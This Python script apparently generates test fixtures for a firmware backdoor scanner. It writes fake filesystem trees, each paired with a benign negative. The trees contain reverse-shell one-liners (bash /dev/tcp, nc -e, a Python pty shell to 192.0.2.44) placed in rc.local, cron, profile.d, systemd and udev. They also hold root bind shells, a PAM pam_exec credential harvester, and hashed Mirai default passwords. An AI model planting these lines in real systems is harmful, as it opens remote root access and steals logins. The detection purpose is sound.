#!/usr/bin/env python3
"""Writes the access/ corpus: small root-filesystem-like trees (text files only) with default,
empty and extra accounts, shells on the network at boot and weak remote-login options, and the
hard negatives beside them. Deterministic: fixed salts, so a rebuild gives the same bytes.

Hashes come from crypt(3) (libxcrypt) through Python's crypt module. Run by ../build.sh.
"""
import os
import shutil
import sys
import warnings

with warnings.catch_warnings():
    warnings.simplefilter("ignore", DeprecationWarning)
    import crypt  # noqa: E402  (Python 3.11's wrapper around crypt(3))

HERE = os.path.dirname(os.path.abspath(__file__))

# One fixed salt per scheme (valid salt characters only).
SALTS = {
    "des": "Xk",
    "md5": "$1$Bk7sQz1p$",
    "sha256": "$5$rounds=5000$Bk7sQz1pVw3eR9tY$",
    "sha512": "$6$Bk7sQz1pVw3eR9tY$",
    "bcrypt": "$2b$05$Bk7sQz1pVw3eR9tYuI0oPe",
    "yescrypt": "$y$j9T$Bk7sQz1pVw3eR9tYuI0oP.$",
}

STRONG = "t7#Vq!e9Lp2@wZr8"   # not on any list; the hard negative

PASSWD_HEAD = "root:x:0:0:root:/root:/bin/sh\n"
SERVICES = ("daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
            "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n")
SHADOW_SERVICES = "daemon:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n"


def hashed(password, scheme):
    value = crypt.crypt(password, SALTS[scheme])
    if not value or value.startswith("*"):
        sys.exit("crypt(3) does not support %s here" % scheme)
    return value


def write(path, text, mode=0o644):
    full = os.path.join(HERE, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "w") as f:
        f.write(text)
    os.chmod(full, mode)


def shadow(root_field, extra=""):
    return "root:%s:19000:0:99999:7:::\n%s%s" % (root_field, SHADOW_SERVICES, extra)


def main():
    for name in os.listdir(HERE):
        if os.path.isdir(os.path.join(HERE, name)):
            shutil.rmtree(os.path.join(HERE, name))

    # Default passwords from the list, one tree per hash scheme: root:xc3511 (Mirai's first).
    for scheme in SALTS:
        write("default-password/%s/etc/passwd" % scheme, PASSWD_HEAD + SERVICES)
        write("default-password/%s/etc/shadow" % scheme, shadow(hashed("xc3511", scheme)), 0o640)
    # A vendor account with its own default (admin:admin), and the strong-password negative.
    write("default-password/admin-account/etc/passwd",
          PASSWD_HEAD + SERVICES + "admin:x:1000:1000:admin:/home/admin:/bin/sh\n")
    write("default-password/admin-account/etc/shadow",
          shadow("*", "admin:%s:19000:0:99999:7:::\n" % hashed("admin", "sha512")), 0o640)
    write("strong-password/etc/passwd", PASSWD_HEAD + SERVICES)
    write("strong-password/etc/shadow", shadow(hashed(STRONG, "yescrypt")), 0o640)
    # Locked root: '*' and '!' (with a hash behind the '!': passwd -l of a default password).
    write("locked-root/star/etc/passwd", PASSWD_HEAD + SERVICES)
    write("locked-root/star/etc/shadow", shadow("*"), 0o640)
    write("locked-root/bang/etc/passwd", PASSWD_HEAD + SERVICES)
    write("locked-root/bang/etc/shadow", shadow("!" + hashed("xc3511", "sha512")), 0o640)

    # Busybox-style tree: no shadow file, the hash (or nothing) in etc/passwd itself.
    write("busybox-empty-root/etc/passwd", "root::0:0:root:/root:/bin/ash\n"
          "daemon:*:1:1:daemon:/usr/sbin:/bin/false\nftp::55:55:ftp:/home/ftp:/bin/false\n")
    write("busybox-default-root/etc/passwd", "root:%s:0:0:root:/root:/bin/sh\n" % hashed("vizxv", "md5")
          + "nobody:*:65534:65534:nobody:/var:/bin/false\n")
    # Busybox-style tree whose etc/shadow is a link to a writable partition: the passwd check
    # reads it through the link (inside the tree) and reports its lines.
    write("busybox-linked-shadow/etc/passwd", PASSWD_HEAD + SERVICES)
    write("busybox-linked-shadow/var/shadow", shadow(hashed("hi3518", "sha512")), 0o640)
    os.symlink("../var/shadow", os.path.join(HERE, "busybox-linked-shadow/etc/shadow"))
    # An extra UID-0 account beside root.
    write("extra-uid-zero/etc/passwd", PASSWD_HEAD + SERVICES
          + "sysmaint:x:0:0:maintenance:/root:/bin/sh\n")
    write("extra-uid-zero/etc/shadow", shadow("*", "sysmaint:!:19000:0:99999:7:::\n"), 0o640)

    # Shells on the network at boot.
    write("telnet-shell/etc/inittab",
          "::sysinit:/etc/init.d/rcS\n"
          "::respawn:/usr/sbin/telnetd -F -p 23 -l /bin/sh\n"
          "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
          "::shutdown:/bin/umount -a -r\n")
    write("serial-getty/etc/inittab",
          "::sysinit:/etc/init.d/rcS\n"
          "ttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
          "::askfirst:-/bin/sh\n"
          "::ctrlaltdel:/sbin/reboot\n")
    write("netcat-shell/etc/init.d/S95debug",
          "#!/bin/sh\n# factory debug port\ncase \"$1\" in\nstart)\n"
          "\tbusybox nc -ll -p 2323 -e /bin/sh &\n\t;;\nesac\n", 0o755)
    write("netcat-shell/etc/init.d/rcS",
          "#!/bin/sh\nmount -a\nfor s in /etc/init.d/S??*; do $s start; done\n"
          "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l -p 4444 > /tmp/f &\n", 0o755)
    write("socat-shell/etc/systemd/system/diag.service",
          "[Unit]\nDescription=Diagnostics\n\n[Service]\n"
          "ExecStart=/usr/bin/socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr\n"
          "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n")
    write("inetd-shell/etc/inetd.conf",
          "# service socket protocol wait user server arguments\n"
          "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n"
          "2323 stream tcp nowait root /bin/sh sh -i\n")
    write("xinetd-telnet-shell/etc/xinetd.d/telnet",
          "service telnet\n{\n\tsocket_type = stream\n\twait = no\n\tuser = root\n"
          "\tserver = /usr/sbin/in.telnetd\n\tserver_args = -h -L /bin/sh\n\tdisable = no\n}\n"
          "service debug\n{\n\tsocket_type = stream\n\tport = 7777\n\tuser = root\n\tserver = /bin/sh\n\tserver_args = -i\n}\n")
    # The netcat negative: a health check that connects out and runs no shell.
    write("netcat-healthcheck/etc/init.d/S99health",
          "#!/bin/sh\nwhile true; do\n\techo ping | nc -w 2 127.0.0.1 8080 >/dev/null || logger health failed\n"
          "\tsleep 60\ndone &\n", 0o755)

    # A reverse shell on a socket bash opens itself (/dev/tcp), from rc.local and from a unit;
    # beside a start-up script that only waits for a port to answer.
    write("devtcp-shell/etc/rc.local",
          "#!/bin/sh -e\n# rc.local\n(while true; do bash -i >& /dev/tcp/192.0.2.44/8443 0>&1; sleep 300; done) &\nexit 0\n", 0o755)
    write("devtcp-shell/etc/systemd/system/netcheck.service",
          "[Unit]\nDescription=Network check\nAfter=network-online.target\n\n[Service]\nType=simple\n"
          "ExecStart=/bin/bash -c 'exec 5<>/dev/tcp/192.0.2.44/443; sh <&5 >&5 2>&5'\nRestart=always\n\n"
          "[Install]\nWantedBy=multi-user.target\n")
    write("devtcp-healthcheck/etc/init.d/S40app",
          "#!/bin/sh\n# Start the app once its database answers.\nDB_PORT=5432\n"
          "until (echo > /dev/tcp/127.0.0.1/$DB_PORT) 2>/dev/null; do sleep 1; done\n"
          "timeout 1 bash -c '</dev/tcp/127.0.0.1/8080' || /usr/bin/app --port 8080 &\n", 0o755)

    # Scheduled reverse shells: @reboot in the system crontab, every ten minutes in root's own;
    # beside a backup job and a start-up wait that runs no shell on the network.
    write("cron-shell/etc/crontab",
          "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n"
          "# m h dom mon dow user\tcommand\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
          "@reboot root sleep 60 && bash -i >& /dev/tcp/192.0.2.44/9001 0>&1\n")
    write("cron-shell/var/spool/cron/crontabs/root",
          "# DO NOT EDIT THIS FILE - edit the master and reinstall.\n*/10 * * * * nc 192.0.2.44 9002 -e /bin/sh >/dev/null 2>&1\n", 0o600)
    write("cron-benign/etc/cron.d/backup",
          "MAILTO=root\n30 2 * * * root /usr/local/sbin/backup.sh >> /var/log/backup.log 2>&1\n"
          "@reboot root sh -c 'until nc -z 127.0.0.1 5432; do sleep 1; done; /usr/bin/app --daemon'\n")

    # Login scripts that connect a shell out at every login (root's .bashrc, a profile.d
    # snippet), beside a profile.d snippet that only sets the prompt and checks a port.
    write("profile-shell/etc/profile.d/motd.sh",
          "# Message of the day\n[ -r /etc/motd ] && cat /etc/motd\n"
          "(nohup bash -c 'bash -i >& /dev/tcp/192.0.2.44/7000 0>&1' >/dev/null 2>&1 &)\n")
    write("profile-shell/root/.bashrc",
          "# ~/.bashrc: executed by bash(1) for non-login shells.\nexport PS1='\\h:\\w\\$ '\n"
          "umask 022\nnc -e /bin/sh 192.0.2.44 7001 >/dev/null 2>&1 &\n", 0o600)
    write("profile-benign/etc/profile.d/prompt.sh",
          "# Prompt and a check that the local agent answers.\nexport PS1='\\u@\\h:\\w\\$ '\n"
          "if ! (echo > /dev/tcp/127.0.0.1/8125) 2>/dev/null; then echo 'metrics agent down' >&2; fi\n")

    # A Python one-liner that connects out and hands the socket to a shell, from an init
    # script; beside one that only asks the socket module for the host name.
    write("script-shell/etc/init.d/S98sync",
          "#!/bin/sh\ncase \"$1\" in\nstart)\n"
          "\tpython3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.44\",6000));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")' &\n\t;;\nesac\n", 0o755)
    write("script-benign/etc/init.d/S50hostname",
          "#!/bin/sh\n# Write the host name the network stack reports.\n"
          "python3 -c 'import socket; print(socket.gethostname())' > /run/hostname\n", 0o755)

    # udev starts a reverse shell when a USB device appears; beside rules that run a backup
    # script and a sh -c that writes sysfs.
    write("udev-shell/etc/udev/rules.d/99-usb-serial.rules",
          "# Serial adapters\nACTION==\"add\", SUBSYSTEM==\"usb\", ATTR{idVendor}==\"0403\", "
          "RUN+=\"/bin/sh -c 'nohup bash -i >& /dev/tcp/192.0.2.44/5555 0>&1 &'\"\n")
    write("udev-benign/etc/udev/rules.d/60-backup.rules",
          "ACTION==\"add\", ENV{ID_FS_LABEL}==\"BACKUP\", RUN+=\"/usr/local/bin/backup-start %k\"\n"
          "ACTION==\"add\", SUBSYSTEM==\"usb\", RUN+=\"/bin/sh -c 'echo auto > /sys%p/power/control'\"\n")

    # PAM hands the typed password to a program: pam_exec with expose_authtok on an auth line
    # (a credential harvester), beside pam_exec for a login notice, which never sees it.
    write("pam-exec-harvest/etc/pam.d/common-auth",
          "# /etc/pam.d/common-auth - authentication settings common to all services\n"
          "auth\t[success=1 default=ignore]\tpam_unix.so nullok\n"
          "auth\trequisite\t\t\tpam_deny.so\n"
          "auth\trequired\t\t\tpam_permit.so\n"
          "auth\toptional\tpam_exec.so quiet expose_authtok /usr/local/sbin/pam-audit\n")
    write("pam-exec-notify/etc/pam.d/sshd",
          "# Login notices for the operators.\n"
          "@include common-auth\n"
          "account    required     pam_nologin.so\n"
          "session    optional     pam_exec.so seteuid /usr/local/bin/login-notify\n"
          "# auth optional pam_exec.so expose_authtok /usr/local/sbin/pam-audit   (removed)\n")

    # Weak remote-login options.
    write("dropbear-blank/etc/init.d/dropbear",
          "#!/bin/sh\nDAEMON=/usr/sbin/dropbear\nARGS=\"-R -B -p 22\"\n"
          "case \"$1\" in\nstart)\n\tstart-stop-daemon -S -x $DAEMON -- $ARGS\n\t;;\nesac\n", 0o755)
    write("dropbear-blank/etc/default/dropbear", "# dropbear options\nDROPBEAR_EXTRA_ARGS=\"-B\"\n")
    write("dropbear-keys-only/etc/init.d/dropbear",
          "#!/bin/sh\nDAEMON=/usr/sbin/dropbear\n"
          "case \"$1\" in\nstart)\n\tstart-stop-daemon -S -x $DAEMON -- -R -s -p 22\n\t;;\nesac\n", 0o755)
    write("sshd-empty-passwords/etc/ssh/sshd_config",
          "Port 22\nPermitRootLogin prohibit-password\nPermitEmptyPasswords yes\n")
    write("sshd-keys-only/etc/ssh/sshd_config",
          "Port 22\nPermitRootLogin prohibit-password\nPasswordAuthentication no\n"
          "KbdInteractiveAuthentication no\nPermitEmptyPasswords no\n")
    # Root logs in over the network with a default password: sshd and telnetd with login.
    write("sshd-root-default/etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n")
    write("sshd-root-default/etc/passwd", PASSWD_HEAD + SERVICES)
    write("sshd-root-default/etc/shadow", shadow(hashed("admin", "sha512")), 0o640)
    write("telnet-root-default/etc/inittab",
          "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F\n")
    write("telnet-root-default/etc/passwd", PASSWD_HEAD + SERVICES)
    write("telnet-root-default/etc/shadow", shadow(hashed("xc3511", "des")), 0o640)
    # The same sshd over a strong root password: no root-login finding.
    write("sshd-root-strong/etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\n")
    write("sshd-root-strong/etc/passwd", PASSWD_HEAD + SERVICES)
    write("sshd-root-strong/etc/shadow", shadow(hashed(STRONG, "yescrypt")), 0o640)

    # Keys shipped in the image: root's and a service account's; a user's own key is not one.
    key = "AAAAC3NzaC1lZDI1NTE5AAAAIB7k2mQp0v5yVYb3q9Xz8wF1cR4tLs6uHn0jKdPaEo2G"
    write("vendor-key/root/.ssh/authorized_keys", "ssh-ed25519 %s support@vendor-build\n" % key, 0o600)
    write("vendor-key/etc/passwd", PASSWD_HEAD + SERVICES
          + "backup:x:34:34:backup:/home/backup:/bin/sh\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n")
    write("vendor-key/home/backup/.ssh/authorized_keys",
          "from=\"10.0.0.0/8\" ssh-ed25519 %s backup@vendor-build\n" % key, 0o600)
    write("vendor-key/home/alice/.ssh/authorized_keys", "ssh-ed25519 %s alice@laptop\n" % key, 0o600)

    # Administrative groups (etc/group): a vendor account in sudo with its default password, a
    # busybox maintenance account whose primary group is root (GID 0) with no password; the
    # negatives: the same membership with a locked password (wheel) and with a strong one (sudo,
    # an inventory fact only).
    groups = "root:x:0:\ndaemon:x:1:\nadm:x:4:\nusers:x:100:\nnogroup:x:65534:\n"
    write("admin-group-default/etc/passwd", PASSWD_HEAD + SERVICES + "admin:x:1000:1000:admin:/home/admin:/bin/sh\n")
    write("admin-group-default/etc/shadow", shadow("*", "admin:%s:19000:0:99999:7:::\n" % hashed("admin", "sha512")), 0o640)
    write("admin-group-default/etc/group", groups + "sudo:x:27:admin\nadmin:x:1000:\n")
    write("root-group-empty/etc/passwd", "root:%s:0:0:root:/root:/bin/ash\n" % hashed(STRONG, "md5")
          + "daemon:*:1:1:daemon:/usr/sbin:/bin/false\nmaint::1001:0:maintenance:/home/maint:/bin/ash\n")
    write("root-group-empty/etc/group", "root:x:0:\ndaemon:x:1:\n")
    write("admin-group-locked/etc/passwd", PASSWD_HEAD + SERVICES + "admin:x:1000:1000:admin:/home/admin:/bin/sh\n")
    write("admin-group-locked/etc/shadow", shadow("*", "admin:!%s:19000:0:99999:7:::\n" % hashed("admin", "sha512")), 0o640)
    write("admin-group-locked/etc/group", groups + "wheel:x:10:admin\nadmin:x:1000:\n")
    write("admin-group-strong/etc/passwd", PASSWD_HEAD + SERVICES + "ops:x:1000:1000:ops:/home/ops:/bin/bash\n")
    write("admin-group-strong/etc/shadow", shadow("*", "ops:%s:19000:0:99999:7:::\n" % hashed(STRONG, "yescrypt")), 0o640)
    write("admin-group-strong/etc/group", groups + "sudo:x:27:ops\nops:x:1000:\n")


if __name__ == "__main__":
    main()
